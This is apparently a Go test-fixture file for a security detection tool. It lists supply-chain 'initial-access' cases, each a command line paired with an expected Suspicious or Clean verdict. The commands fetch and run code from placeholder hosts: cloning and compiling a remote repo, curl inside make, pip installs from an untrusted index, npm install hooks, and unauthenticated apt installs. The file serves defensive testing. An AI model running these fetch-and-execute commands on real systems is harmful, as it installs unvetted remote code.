package cast

import (
	"strings"

	"github.com/detonaut/detonaut"
)

// supply are those that take code from others while they run.
func supply() []Actor {
	return []Actor{
		{
			Name: "build-fetched", Program: "command", Extras: []string{"/usr/bin/git", "/usr/bin/gcc"},
			Run:  app(strings.Fields("/usr/bin/git clone https://git.stage.example/app then /usr/bin/gcc -o /srv-app main.c then /srv-app")...),
			Word: detonaut.Suspicious, Rules: []string{"initial-access/builds-download"},
		},
		line("build-fetches", "/usr/bin/make -exec /usr/bin/curl -O http://198.51.100.7/library.tar.gz ;",
			detonaut.Clean, "initial-access/build-fetch").with("/usr/bin/curl"),
		line("index-strange", "/usr/bin/pip3 install -i http://198.51.100.7/simple requests", detonaut.Suspicious, "initial-access/strange-index"),
		{
			Name: "install-hook", Program: "install", Run: []string{"/usr/bin/npm", "install"}, Also: []string{"/usr/bin/node"}, Shell: true,
			Word: detonaut.Suspicious, Rules: []string{"initial-access/install-hook"},
		},
		line("package-unsigned", "/usr/bin/apt-get install -y --allow-unauthenticated updater", detonaut.Suspicious, "initial-access/unsigned-package"),
		line("package-url", "/usr/bin/pip3 install git+https://git.stage.example/app.git", detonaut.Clean, "initial-access/package-from-url"),
	}
}
